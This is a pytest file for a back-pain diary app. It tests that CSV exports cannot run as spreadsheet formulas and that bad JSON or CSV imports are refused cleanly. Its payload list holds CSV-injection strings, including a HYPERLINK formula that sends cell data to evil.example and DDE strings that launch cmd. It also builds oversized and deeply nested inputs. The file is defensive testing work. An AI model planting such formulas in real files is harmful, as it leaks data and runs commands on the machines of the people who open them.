"""Exports a spreadsheet cannot run, and imports that cannot crash the reader or the app later."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import hashlib
import io
import json
import uuid
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from backcare.adapters.storage import open_store
from backcare.adapters.storage.transfer import FORMULA_START
from backcare.core.diary import DiaryEntry
from backcare.entrypoints.cli import app

runner = CliRunner()
#: Spreadsheet-formula payloads (OWASP CSV injection): formulas, DDE, a leading tab and a leading carriage return.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
EXTRA = ["'quoted start", "line one\rline two\r\nline three\nend"]


def run(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.stdout, result.stderr


def add_notes(notes: list[str]) -> None:
    now = dt.datetime.now(dt.UTC)
    with open_store() as store, store.unit_of_work() as uow:
        for i, note in enumerate(notes):
            uow.diary.add_entry(
                DiaryEntry(
                    id=str(uuid.uuid4()),
                    date=dt.date(2026, 11, 1) + dt.timedelta(days=i),
                    recorded_at=now,
                    timezone="Europe/London",
                    pain=5,
                    note=note,
                )
            )
        uow.commit()


def test_csv_export_is_inert_in_a_spreadsheet_and_reimports_unchanged(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_notes(PAYLOADS + EXTRA)
    path = tmp_path / "diary.csv"
    code, _, err = run("export", "--format", "csv", "--out", str(path))
    assert code == 0, err
    text = path.read_bytes().decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + len(PAYLOADS) + len(EXTRA)
    assert {len(r) for r in rows} == {len(rows[0])}
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), row
    monkeypatch.setenv("BACKCARE_DATA_DIR", str(tmp_path / "other"))
    code, _, err = run("import", str(path))
    assert code == 0, err
    code, out, err = run("export", "--format", "json")
    assert code == 0, err
    assert [e["note"] for e in json.loads(out)["entries"]] == PAYLOADS + EXTRA


@pytest.fixture
def document() -> dict[str, Any]:
    """A real export: one assessment with its plan, and one diary entry."""
    from backcare.bootstrap import assess
    from backcare.services.assessments import record_assessment

    answers = {"trigger_lifting": True, "fever": False, "pain_score": 6}
    today = dt.date.today()
    with open_store() as store:
        record_assessment(store, assess(answers=answers, today=today), {"answers": answers}, "Europe/London", today)
    add_notes(["stiff"])
    code, out, err = run("export", "--format", "json")
    assert code == 0, err
    doc: dict[str, Any] = json.loads(out)
    assert doc["assessments"] and doc["plans"] and doc["entries"]
    return doc


def nested(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


def mutations() -> dict[str, Any]:
    def outputs(d: dict[str, Any]) -> None:
        d["assessments"][0]["outputs"] = {"not": "an assessment"}

    def assessment_zone(d: dict[str, Any]) -> None:
        d["assessments"][0]["timezone"] = "America"

    def entry_zone(d: dict[str, Any]) -> None:
        d["entries"][0]["timezone"] = "Europe"

    def profile_zone(d: dict[str, Any]) -> None:
        d["profile"]["timezone"] = "America/Argentina"

    def plan(d: dict[str, Any]) -> None:
        d["plans"][0]["content"] = {"items": "none"}

    def deep_inputs(d: dict[str, Any]) -> None:
        d["assessments"][0]["inputs"]["answers"] = {"x": nested(900)}

    def huge_inputs(d: dict[str, Any]) -> None:
        d["assessments"][0]["inputs"]["blob"] = "x" * 300_000

    def disposition(d: dict[str, Any]) -> None:
        d["assessments"][0]["disposition"] = (
            "emergency" if d["assessments"][0]["disposition"] != "emergency" else "soon"
        )

    return {
        "outputs": (outputs, "not an assessment"),
        "assessment-zone": (assessment_zone, "unknown time zone 'America'"),
        "entry-zone": (entry_zone, "unknown time zone 'Europe'"),
        "profile-zone": (profile_zone, "unknown time zone"),
        "plan": (plan, "not a plan"),
        "deep-inputs": (deep_inputs, "nested more than"),
        "huge-inputs": (huge_inputs, "larger than any assessment"),
        "disposition": (disposition, "differs from the disposition"),
    }


@pytest.mark.parametrize("name", sorted(mutations()))
def test_an_import_with_a_field_the_app_cannot_use_is_refused(
    _isolated_data_dir: Path, tmp_path: Path, document: dict[str, Any], name: str
) -> None:
    change, message = mutations()[name]
    bad = copy.deepcopy(document)
    change(bad)
    path = tmp_path / "bad.json"
    path.write_text(json.dumps(bad))
    db = _isolated_data_dir / "backcare.db"
    before = hashlib.sha256(db.read_bytes()).hexdigest()
    code, _, err = run("import", str(path), "--replace")
    assert code == 2, err
    assert message in err and "nothing was imported" in err
    assert hashlib.sha256(db.read_bytes()).hexdigest() == before


@pytest.mark.parametrize(
    "content",
    [
        '{"entries": ' + "[" * 100_000 + "]" * 100_000 + "}",
        '{"entries": [], "assessments": [{"inputs": ' + '{"a":' * 5_000 + "1" + "}" * 5_000 + "}]}",
        "date,pain,findings\n2026-11-20,5," + '"' + "[" * 5_000 + "]" * 5_000 + '"\n',
    ],
    ids=["entries", "inputs", "csv-findings"],
)
def test_deep_nesting_is_refused_with_exit_2(tmp_path: Path, content: str) -> None:
    path = tmp_path / ("deep.csv" if content.startswith("date") else "deep.json")
    path.write_text(content)
    code, out, err = run("import", str(path))
    assert code == 2, (out, err[-500:])
    assert "nested" in err and "Traceback" not in err + out


def test_size_is_checked_before_reading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import backcare.entrypoints.cli.data_transfer as diary_cli

    big = tmp_path / "big.json"
    with big.open("wb") as fh:  # sparse: 300 MB on paper, nothing to read
        fh.truncate(300_000_000)
    code, _, err = run("import", str(big))
    assert code == 2 and "larger than 200 MB" in err
    monkeypatch.setattr(diary_cli, "MAX_IMPORT_BYTES", 1_000_000)
    code, _, err = run("import", "/dev/zero")  # endless: read no further than the limit
    assert code == 2 and "larger than 1 MB" in err
